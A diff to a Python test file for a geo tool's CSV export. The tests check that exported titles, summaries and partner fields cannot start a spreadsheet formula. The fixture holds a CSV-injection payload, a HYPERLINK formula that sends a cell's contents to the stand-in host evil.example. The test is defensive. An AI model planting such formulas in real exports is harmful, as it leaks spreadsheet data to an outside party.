@@ -10,6 +10,7 @@ from geo.cli import main
 from geo.io import exports
 from geo.permissions import COMMAND_LINE
 from geo.storage.db import Store
+from tests.stores import point_at
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
@@ -36,8 +37,8 @@ def test_exported_titles_summaries_and_partners_cannot_start_a_formula(
     with demo_store.write() as cursor:
         for initiative_id, text in zip(ids, HOSTILE.values(), strict=True):
             cursor.execute(
-                "UPDATE initiatives SET title = ?, summary = ?, partners = [?] WHERE id = ?",
-                [text, text, text, initiative_id],
+                "UPDATE initiatives SET title = ?, summary = ?, partners = ? WHERE id = ?",
+                [text, text, [text], initiative_id],
             )
     target = tmp_path / "initiatives.csv"
     exports.write(exports.collect(demo_store, COMMAND_LINE, "initiatives"), "csv", target)
@@ -49,8 +50,8 @@ def test_exported_titles_summaries_and_partners_cannot_start_a_formula(
     assert all(float(row["longitude"]) < 0 for row in written.values())
     assert not any(row["longitude"].startswith("'") for row in written.values())
 
-    demo_store.close()  # the command line opens the file itself
-    monkeypatch.setenv("SAFEPLAY_DB", str(tmp_path / "demo.duckdb"))
+    demo_store.close()  # the command line opens the database itself
+    point_at(monkeypatch, demo_store.location)
     from_cli = tmp_path / "cli.csv"
     assert main(["export", "initiatives", "--format", "csv", "-o", str(from_cli)]) == 0
     assert _rows(from_cli) == _rows(target)
@@ -88,7 +89,8 @@ def test_only_text_cells_are_changed():
     assert safe["gap"].iloc[1] == "'@x" and pd.isna(safe["gap"].iloc[0])
 
 
-def test_no_progress_bar_can_land_in_a_csv_written_to_standard_output(store):
+def test_no_progress_bar_can_land_in_a_csv_written_to_standard_output(tmp_path):
     """DuckDB prints one for queries over 2 s, into pipes too (found on a busy machine)."""
+    store = Store(tmp_path / "bars.duckdb")
     setting = "SELECT current_setting('enable_progress_bar')"
     assert store.cursor().execute(setting).fetchone()[0] is False
